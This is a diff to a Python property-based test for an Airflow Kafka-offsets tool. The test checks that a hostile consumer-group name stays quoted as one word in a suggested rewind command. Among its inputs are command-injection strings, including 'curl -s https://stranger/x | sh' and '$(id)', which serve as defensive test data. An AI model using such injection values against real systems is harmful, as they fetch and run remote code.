@@ -5,6 +5,7 @@ from __future__ import annotations
 import shlex
 import unicodedata
 from types import SimpleNamespace
+from typing import Any
 
 import pytest
 from hypothesis import given
@@ -78,15 +79,18 @@ def test_errors_say_nothing_that_is_not_visible() -> None:
 
 @given(hostile_texts() | st.just("old; curl -s https://stranger/x | sh #") | st.just("$(id)`id`'\"\n"))
 def test_a_command_to_copy_has_a_name_as_one_word(name: str) -> None:
-    planned = OffsetRange("orders", 0, 0, 10, 10)
-    for row in ({"kind": "replay"}, {"kind": "load"}):
-        of_other = SimpleNamespace(**row, batch_id=3, consumer_group=name, start_offset=0, end_offset=10)
-        for is_deleted in (False, True):
-            error = str(_double_load(of_other, "offsets", name, "orders", planned, is_deleted=is_deleted))
-            command = error[error.index("airflow kafka-offsets ") : error.index(" --conn-id")]
-            words = shlex.split(command)
-            assert words[:4] == ["airflow", "kafka-offsets", "rewind", printable(name)]
-            assert not controls(error)
+    row = SimpleNamespace(
+        kind="replay", state="committed", batch_id=3, consumer_group=name, start_offset=0, end_offset=10
+    )
+    planned: Any = OffsetRange(name, 0, 0, 10, 10)
+    none: Any = None
+
+    error = str(_double_load(none, none, row, "offsets", name, "orders", planned))
+
+    command = error[error.index("kafka-offsets ") : error.index(" --to-offset")]
+    topic = f"{printable(name)}:0"
+    assert shlex.split(command) == ["kafka-offsets", "rewind", printable(name), "--topic", topic]
+    assert not controls(error)
 
 
 def test_a_topic_of_the_state_tables_ends_no_line_of_metrics_and_of_csv() -> None:
